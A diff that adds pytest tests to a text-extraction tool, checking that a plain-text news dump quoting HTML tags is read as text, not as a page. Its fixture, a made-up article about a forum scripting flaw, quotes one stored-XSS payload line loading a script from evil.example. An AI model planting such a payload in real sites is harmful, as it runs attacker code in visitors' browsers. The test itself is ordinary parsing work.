@@ -171,3 +171,69 @@ def test_extract_keeps_order_and_reports_errors_in_the_worker_pool(tmp_path: Pat
             assert re.match(EXPECTED["title"], dump.article.title)
             assert empty.article is None and empty.error and "empty.html" in empty.error
             assert missing.article is None and missing.error and "missing.html" in missing.error
+
+
+QUOTING_DUMP = "\n".join([
+    "Home", "News", "Security", "Forum flaw let attackers run scripts", "By Ann Smith",
+    "March 3, 2025",
+    "The attackers hid their code in a comment field that the forum showed to every visitor, "
+    "and the browser ran it.",
+    "A typical payload looked like the line below, which the site printed without escaping "
+    "the angle brackets:",
+    '<script src="https://evil.example/x.js"></script>',
+    "Researchers said that the flaw had been in the software for at least two years before "
+    "anyone noticed it.",
+    "The fix escapes every <div> and <p> tag that a user writes, so that the markup is shown "
+    "instead of run.",
+    "Administrators who cannot update should turn off comments until they have installed the "
+    "new version.",
+    "© 2025 Example News",
+])
+
+
+def test_a_dump_quoting_markup_is_read_as_a_dump(tmp_path: Path) -> None:
+    # Its quoted tags make is_html say HTML, and read as HTML its lines run
+    # together and the quoted tag takes the text after it; the entry point
+    # of `digest add` and `digest extract` reads it as the dump it is.
+    from digest.extract.page import extract_page as entry_point
+    from digest.ingest.preview import preview_inputs
+
+    assert is_html(QUOTING_DUMP)
+    assert "new version" not in extract_page(QUOTING_DUMP.encode()).text  # as HTML
+    longer = QUOTING_DUMP.replace("\n©", "\nThe vendor thanked the two students who reported "
+                                  "the problem and paid them a bounty for their work.\n©")
+    with pytest.raises(ExtractError):
+        extract_page(longer.encode())  # as HTML: no article at all
+    assert "paid them a bounty" in entry_point(longer.encode()).text
+    result = entry_point(QUOTING_DUMP.encode(), url="https://news.example/flaw")
+    assert result.title == "Forum flaw let attackers run scripts"
+    assert '<script src="https://evil.example/x.js"></script>' in result.text.split("\n\n")
+    assert "every <div> and <p> tag" in result.text
+    assert "<script" not in result.markdown and "<div" not in result.markdown
+    path = tmp_path / "flaw.txt"
+    path.write_text(QUOTING_DUMP, encoding="utf-8")
+    (preview,) = preview_inputs([str(path)], None, jobs=1)
+    assert preview.article is not None, preview.error
+    assert "every <div> and <p> tag" in preview.text
+
+
+def test_html_pages_and_fragments_are_still_read_as_html() -> None:
+    from digest.extract.page import extract_page as entry_point
+
+    page = "<div>" + "".join(f"<p>{line}</p>" for line in QUOTING_DUMP.splitlines()) + "</div>"
+    assert entry_point(page.encode()).text == extract_page(page.encode()).text
+    seed = (SEED / "page.html").read_bytes()
+    assert entry_point(seed) == extract_page(seed)
+
+
+def test_a_page_after_a_warning_with_long_scripts_is_still_html() -> None:
+    # Most of its lines hold no tag, as in a dump, but it is a document.
+    from digest.extract.page import extract_page as entry_point
+
+    script = "\n".join(f"var x{n} = {n};" for n in range(200))
+    page = ("Warning: session_start() in /var/www/index.php on line 3\n"
+            "<!DOCTYPE html>\n<html><head><script>\n" + script + "\n</script></head><body>"
+            + "".join(f"<p>{line}</p>" for line in QUOTING_DUMP.splitlines()[6:10])
+            + "</body></html>")
+    data = page.encode("utf-8")
+    assert entry_point(data).text == extract_page(data).text
